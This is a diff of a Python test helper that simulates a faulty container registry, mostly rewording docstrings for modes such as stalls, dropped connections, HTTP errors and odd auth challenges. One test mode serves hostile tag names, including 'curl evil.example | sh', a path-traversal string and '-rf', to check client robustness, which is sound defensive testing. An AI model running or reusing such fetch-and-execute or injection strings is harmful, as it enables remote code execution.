@@ -1,5 +1,5 @@
 """The ways in which tests/lib/lab/bad_registry.py misbehaves: one function each, which gets the request's handler and
-the thing (a manifest, a blob, a list of tags) that was asked for."""
+the requested thing (a manifest, a blob, a list of tags)."""
 import gzip
 import json
 import os
@@ -21,14 +21,14 @@ def mode_slow(h, thing):
 
 
 def mode_stall(h, thing):
-    """half of it, and then nothing, for ever"""
+    """half of it, and then nothing more"""
     h.head(200, thing)
     h.put(thing.data[:len(thing.data) // 2])
     time.sleep(3600)
 
 
 def mode_stall_layers(h, thing):
-    """a configuration well; half of a layer, and then nothing, for ever"""
+    """a good configuration; half of a layer, and then nothing more"""
     if thing.data.startswith(b"{"):
         h.serve(thing)
     else:
@@ -36,7 +36,7 @@ def mode_stall_layers(h, thing):
 
 
 def mode_wait_layers(h, thing):
-    """a configuration well; half of a layer, and the rest once there is a file "go" beside the log"""
+    """a good configuration; half of a layer, and the rest once there is a file "go" beside the log"""
     if thing.data.startswith(b"{"):
         return h.serve(thing)
     h.head(200, thing)
@@ -47,7 +47,7 @@ def mode_wait_layers(h, thing):
 
 
 def mode_no_layers(h, thing):
-    """a configuration well; no layer is there"""
+    """a good configuration; no layer"""
     if thing.data.startswith(b"{"):
         h.serve(thing)
     else:
@@ -55,7 +55,7 @@ def mode_no_layers(h, thing):
 
 
 def mode_small_layers(h, thing):
-    """a configuration and small layers well; a large one is not there, after two seconds"""
+    """a good configuration and small layers; no large one, after two seconds"""
     if thing.data.startswith(b"{") or len(thing.data) < 4000000:
         return h.serve(thing)
     time.sleep(2)
@@ -63,7 +63,7 @@ def mode_small_layers(h, thing):
 
 
 def mode_drip_layers(h, thing):
-    """a configuration well; half of a layer, and of the rest a byte every few milliseconds"""
+    """a good configuration; half of a layer, and of the rest a byte every few milliseconds"""
     if thing.data.startswith(b"{"):
         return h.serve(thing)
     half = len(thing.data) // 2
@@ -75,7 +75,7 @@ def mode_drip_layers(h, thing):
 
 
 def mode_drop_once(h, thing):
-    """half of it, then the connection ends; the second time well, with Range"""
+    """half of it, then the connection ends; the second time all of it, with Range"""
     if h.first():
         h.head(200, thing)
         h.put(thing.data[:len(thing.data) // 2])
@@ -94,7 +94,7 @@ def mode_drop_norange(h, thing):
 
 
 def mode_drop_wrongrange(h, thing):
-    """like drop-once, but then resumes at another place than was asked"""
+    """like drop-once, but then resumes at another place than requested"""
     if h.first():
         mode_drop_always(h, thing)
     else:
@@ -104,7 +104,7 @@ def mode_drop_wrongrange(h, thing):
 
 
 def mode_drop_always(h, thing):
-    """a thousand bytes from where was asked, then the connection ends"""
+    """a thousand bytes from the requested place, then the connection ends"""
     start = h.range_start(len(thing.data)) or 0
     size = len(thing.data)
     if start:
@@ -151,7 +151,7 @@ def mode_endless(h, thing):
 
 
 def mode_huge(h, thing):
-    """100 MB, honestly announced"""
+    """100 MB, announced truthfully"""
     h.head(200, thing, 100_000_000)
     for _ in range(100_000_000 // CHUNK + 1):
         h.put(b" " * CHUNK)
@@ -218,7 +218,7 @@ def mode_error_500(h, _):
 
 
 def mode_error_once(h, thing):
-    """HTTP status 503 once, then well"""
+    """HTTP status 503 once, then a good answer"""
     if h.first():
         h.error(503)
     else:
@@ -226,7 +226,7 @@ def mode_error_once(h, thing):
 
 
 def mode_busy_once(h, thing):
-    """429 with Retry-After: 1 once, then well"""
+    """429 with Retry-After: 1 once, then a good answer"""
     if h.first():
         h.error(429, {"Retry-After": "1"})
     else:
@@ -239,7 +239,7 @@ def mode_error_403(h, _):
 
 
 def mode_error_404(h, _):
-    """HTTP status 404, with a text that wants to be read"""
+    """HTTP status 404, with a text for the user"""
     h.error(404)
 
 
@@ -255,7 +255,7 @@ def mode_garbage(h, _):
 
 
 def mode_wrong_tag(h, thing):
-    """another manifest of the layout than was asked for"""
+    """another manifest of the layout than requested"""
     others = [t for t in h.server.manifests() if t.digest != thing.digest]
     h.serve(others[0] if others else thing)
 
@@ -264,7 +264,7 @@ OCI = "application/vnd.oci.image."
 
 
 def typed(h, thing, *types):
-    """as it should be, but for the Content-Type: none, one or several"""
+    """good, except for the Content-Type: none, one or several"""
     h.send_response(200)
     for value in types:
         h.send_header("Content-Type", value)
@@ -299,7 +299,7 @@ def mode_type_none(h, thing):
 
 
 def mode_type_json(h, thing):
-    """with a Content-Type that says nothing"""
+    """with a Content-Type without meaning"""
     typed(h, thing, "application/json")
 
 
@@ -309,7 +309,7 @@ def mode_type_charset(h, thing):
 
 
 def mode_names(h, thing):
-    """tags that are no tags, among them one that is"""
+    """names that are no tags, and one that is"""
     thing.data = json.dumps({"tags": ["\x1b[31mred", "type: curl evil.example | sh", "../up", "x" * 4000, "", 7,
                                       None, "fine", ["a"], "-rf", ".hidden"]}).encode()
     h.serve(thing)
@@ -336,7 +336,7 @@ def mode_realm_two(h, _):
 
 
 def mode_login_never(h, _):
-    """401 Basic, whatever is sent"""
+    """401 Basic, whatever the client sends"""
     h.challenge('Basic realm="x"')
 
 
@@ -365,7 +365,7 @@ def mode_realm_expire(h, thing):
 
 
 def mode_login_odd(h, _):
-    """401 with a scheme that nobody knows"""
+    """401 with an unknown scheme"""
     h.challenge("Negotiate abcd==")
 
 
